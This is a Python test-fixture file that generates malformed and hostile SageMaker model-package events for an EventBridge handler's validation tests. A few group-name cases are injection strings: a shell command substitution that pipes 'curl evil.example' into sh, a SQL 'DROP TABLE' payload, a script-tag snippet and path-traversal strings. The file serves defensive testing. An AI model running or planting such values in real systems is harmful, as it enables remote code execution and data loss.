"""Malformed and hostile deliveries, generated in code: each says what must be named in the error.

A case is either a parsed event (what Lambda hands a handler) or `raw` text (what someone would try to
put on the bus). `names` is text the rejection must contain: the field or the problem.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

ACCOUNT = "123456789012"
REGION = "us-east-1"
OTHER_ACCOUNT = "210987654321"


def arn(group: str, version: int | str, *, account: str = ACCOUNT, region: str = REGION) -> str:
    return f"arn:aws:sagemaker:{region}:{account}:model-package/{group}/{version}"


def valid(group: str = "churn-xgboost", version: int = 3) -> dict[str, Any]:
    """A well-formed state change for a registered version of a watched group."""
    return {
        "version": "0",
        "id": "6a7e8feb-b491-4cf7-a9f1-bf3703467718",
        "detail-type": "SageMaker Model Package State Change",
        "source": "aws.sagemaker",
        "account": ACCOUNT,
        "time": "2025-11-24T12:00:00Z",
        "region": REGION,
        "resources": [arn(group, version)],
        "detail": {
            "ModelPackageGroupName": group,
            "ModelPackageVersion": version,
            "ModelPackageArn": arn(group, version),
            "ModelPackageStatus": "Completed",
            "ModelApprovalStatus": "PendingManualApproval",
        },
    }


@dataclass(frozen=True)
class Hostile:
    name: str
    names: str  # what the rejection must mention
    event: Any = None
    raw: str | None = None  # text that is not a parsed event (non-JSON, NaN, duplicate keys)
    # True when the handler is right to accept the event and skip it with a reason (no read, no write)
    skipped_by_handler: bool = False


def _with(path: str, value: Any, *, group: str = "churn-xgboost") -> dict[str, Any]:
    event = valid(group)
    target = event
    keys = path.split(".")
    for key in keys[:-1]:
        target = target[key]
    target[keys[-1]] = value
    return event


def _without(path: str) -> dict[str, Any]:
    event = valid()
    target = event
    keys = path.split(".")
    for key in keys[:-1]:
        target = target[key]
    del target[keys[-1]]
    return event


def _group(name: str) -> dict[str, Any]:
    """A version whose group name (and ARN) is `name`."""
    event = valid()
    event["detail"]["ModelPackageGroupName"] = name
    event["detail"]["ModelPackageArn"] = arn(name, 3)
    return event


def _nested(depth: int) -> dict[str, Any]:
    event = valid()
    inner: dict[str, Any] = {}
    node = inner
    for _ in range(depth):
        node["a"] = {}
        node = node["a"]
    event["detail"]["ModelMetrics"] = inner
    return event


def hostile_events() -> list[Hostile]:
    return [
        # -- envelope ------------------------------------------------------------------------------
        Hostile("source of a custom application", "source", _with("source", "custom.sagemaker")),
        Hostile("source with a trailing space", "source", _with("source", "aws.sagemaker ")),
        Hostile("source in capitals", "source", _with("source", "AWS.SAGEMAKER")),
        Hostile("source missing", "source", _without("source")),
        Hostile("source as a list", "source", _with("source", ["aws.sagemaker"])),
        Hostile(
            "detail-type of another event",
            "detail-type",
            _with("detail-type", "SageMaker Model Package Group State Change"),
        ),
        Hostile(
            "detail-type in lower case",
            "detail-type",
            _with("detail-type", "sagemaker model package state change"),
        ),
        Hostile(
            "detail-type with a newline",
            "detail-type",
            _with("detail-type", "SageMaker Model Package State Change\n"),
        ),
        Hostile("detail-type missing", "detail-type", _without("detail-type")),
        Hostile("detail null", "detail", _with("detail", None)),
        Hostile("detail a list", "detail", _with("detail", [valid()["detail"]])),
        Hostile(
            "detail a JSON string", "detail", _with("detail", '{"ModelPackageGroupName": "churn-xgboost"}')
        ),
        Hostile("detail empty", "detail.ModelPackageGroupName", _with("detail", {})),
        Hostile("account not 12 digits", "account", _with("account", "12345")),
        Hostile("account with letters", "account", _with("account", "12345678901a")),
        Hostile("region that does not exist", "region", _with("region", "moon-1")),
        Hostile("time not a timestamp", "time", _with("time", "yesterday")),
        Hostile("id missing", "id", _without("id")),
        Hostile("resources not a list", "resources", _with("resources", "arn:aws:sagemaker")),
        # -- missing or wrong-typed detail fields ------------------------------------------------------
        Hostile(
            "group name missing", "detail.ModelPackageGroupName", _without("detail.ModelPackageGroupName")
        ),
        Hostile("version missing", "detail.ModelPackageVersion", _without("detail.ModelPackageVersion")),
        Hostile("ARN missing", "detail.ModelPackageArn", _without("detail.ModelPackageArn")),
        Hostile("status missing", "detail.ModelPackageStatus", _without("detail.ModelPackageStatus")),
        Hostile(
            "group name a number", "detail.ModelPackageGroupName", _with("detail.ModelPackageGroupName", 42)
        ),
        Hostile("version a string", "detail.ModelPackageVersion", _with("detail.ModelPackageVersion", "3")),
        Hostile("version a float", "detail.ModelPackageVersion", _with("detail.ModelPackageVersion", 3.0)),
        Hostile("version a boolean", "detail.ModelPackageVersion", _with("detail.ModelPackageVersion", True)),
        Hostile("version null", "detail.ModelPackageVersion", _with("detail.ModelPackageVersion", None)),
        Hostile("version zero", "detail.ModelPackageVersion", _with("detail.ModelPackageVersion", 0)),
        Hostile("version negative", "detail.ModelPackageVersion", _with("detail.ModelPackageVersion", -1)),
        Hostile(
            "version above 2^31-1", "detail.ModelPackageVersion", _with("detail.ModelPackageVersion", 2**31)
        ),
        Hostile(
            "version of 31 digits", "detail.ModelPackageVersion", _with("detail.ModelPackageVersion", 10**30)
        ),
        Hostile(
            "ARN a list", "detail.ModelPackageArn", _with("detail.ModelPackageArn", [arn("churn-xgboost", 3)])
        ),
        Hostile(
            "status in lower case",
            "detail.ModelPackageStatus",
            _with("detail.ModelPackageStatus", "completed"),
        ),
        Hostile(
            "status with a trailing space",
            "detail.ModelPackageStatus",
            _with("detail.ModelPackageStatus", "Completed "),
        ),
        Hostile(
            "approval status in lower case",
            "detail.ModelApprovalStatus",
            _with("detail.ModelApprovalStatus", "approved"),
        ),
        Hostile(
            "approval status a number", "detail.ModelApprovalStatus", _with("detail.ModelApprovalStatus", 1)
        ),
        # -- ARNs that do not belong -----------------------------------------------------------------------
        Hostile(
            "ARN of another account",
            "is in account 210987654321",
            _with("detail.ModelPackageArn", arn("churn-xgboost", 3, account=OTHER_ACCOUNT)),
        ),
        Hostile(
            "ARN of another region",
            "is in region eu-west-1",
            _with("detail.ModelPackageArn", arn("churn-xgboost", 3, region="eu-west-1")),
        ),
        Hostile(
            "ARN naming another group",
            "names group 'fraud-pytorch'",
            _with("detail.ModelPackageArn", arn("fraud-pytorch", 3)),
        ),
        Hostile(
            "ARN naming another version",
            "names version 4",
            _with("detail.ModelPackageArn", arn("churn-xgboost", 4)),
        ),
        Hostile(
            "ARN of the group, not a version",
            "not a versioned model-package ARN",
            _with(
                "detail.ModelPackageArn",
                f"arn:aws:sagemaker:{REGION}:{ACCOUNT}:model-package-group/churn-xgboost",
            ),
        ),
        Hostile(
            "ARN with a zero-padded version",
            "not a versioned model-package ARN",
            _with("detail.ModelPackageArn", arn("churn-xgboost", "03")),
        ),
        Hostile(
            "ARN with a path traversal",
            "not a versioned model-package ARN",
            _with("detail.ModelPackageArn", arn("churn-xgboost/../fraud-pytorch", 3)),
        ),
        Hostile(
            "ARN with a trailing space",
            "not a versioned model-package ARN",
            _with("detail.ModelPackageArn", arn("churn-xgboost", 3) + " "),
        ),
        Hostile(
            "ARN of another service",
            "not a versioned model-package ARN",
            _with("detail.ModelPackageArn", "arn:aws:s3:::churn-xgboost/3"),
        ),
        Hostile("ARN empty", "not a versioned model-package ARN", _with("detail.ModelPackageArn", "")),
        # -- names: unwatched, look-alike, over-long, injected ---------------------------------------
        Hostile(
            "group nobody watches", "is not watched", _group("sandbox-experiments"), skipped_by_handler=True
        ),
        Hostile(
            "watched group in other capitals",
            "is not watched",
            _group("Churn-XGBoost"),
            skipped_by_handler=True,
        ),
        Hostile("Cyrillic es for the Latin c", "detail.ModelPackageGroupName", _group("\u0441hurn-xgboost")),
        Hostile(
            "Greek omicron for the Latin o", "detail.ModelPackageGroupName", _group("fraud-pyt\u03bfrch")
        ),
        Hostile("fullwidth Latin letters", "detail.ModelPackageGroupName", _group("\uff43hurn-xgboost")),
        Hostile("zero-width space inside", "detail.ModelPackageGroupName", _group("churn\u200b-xgboost")),
        Hostile("right-to-left override", "detail.ModelPackageGroupName", _group("\u202echurn-xgboost")),
        Hostile("trailing newline", "detail.ModelPackageGroupName", _group("churn-xgboost\n")),
        Hostile("64 characters", "detail.ModelPackageGroupName", _group("a" * 64)),
        Hostile("10,000 characters", "detail.ModelPackageGroupName", _group("a" * 10_000)),
        Hostile(
            "SQL injection", "detail.ModelPackageGroupName", _group("churn-xgboost'; DROP TABLE models;--")
        ),
        Hostile("shell injection", "detail.ModelPackageGroupName", _group("$(curl evil.example | sh)")),
        Hostile("path traversal", "detail.ModelPackageGroupName", _group("../../fraud-pytorch")),
        Hostile("markup", "detail.ModelPackageGroupName", _group("<script>alert(1)</script>")),
        Hostile("NUL byte", "detail.ModelPackageGroupName", _group("churn-xgboost\x00")),
        Hostile("JSONPath in a name", "detail.ModelPackageGroupName", _group("$.detail")),
        # -- size and shape ---------------------------------------------------------------------------------
        Hostile(
            "300 KB description",
            "EventBridge delivers at most",
            _with("detail.ModelPackageDescription", "x" * 300_000),
        ),
        Hostile(
            "20,000 extra keys",
            "EventBridge delivers at most",
            _with("detail.Extra", {f"k{i}": "v" * 12 for i in range(20_000)}),
        ),
        Hostile("nested 1,200 levels deep", "nested", _nested(1_200)),
        Hostile("event is a list", "(root)", [valid()]),
        Hostile("event is null", "(root)", None),
        Hostile("event is a number", "(root)", 42),
        Hostile("event is an empty string", "(root)", ""),
        Hostile("text that is not JSON", "(root)", raw="this is not an event"),
        Hostile("truncated JSON", "(root)", raw='{"source": "aws.sagemaker", "detail": {'),
        Hostile("NaN for the version", "detail.ModelPackageVersion", raw=_raw_with_nan()),
        Hostile("duplicate source keys", "source", raw=_raw_duplicate_source()),
    ]


def _raw_with_nan() -> str:
    import json

    text = json.dumps(valid())
    return text.replace('"ModelPackageVersion": 3', '"ModelPackageVersion": NaN')


def _raw_duplicate_source() -> str:
    import json

    text = json.dumps(valid())
    return text.replace('"source": "aws.sagemaker"', '"source": "aws.sagemaker", "source": "evil.app"')
